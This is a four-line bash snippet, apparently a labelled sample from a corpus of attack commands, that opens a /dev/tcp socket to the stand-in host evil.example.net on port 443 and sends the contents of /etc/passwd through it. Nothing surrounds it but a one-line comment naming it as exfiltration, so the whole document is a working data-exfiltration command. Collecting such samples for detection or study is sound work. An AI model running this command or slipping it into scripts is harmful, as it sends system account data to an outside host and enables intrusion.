# corpus: exfiltration of /etc/passwd through a bash /dev/tcp socket to port 443
exec 3<>/dev/tcp/evil.example.net/443
cat /etc/passwd >&3
exec 3>&-
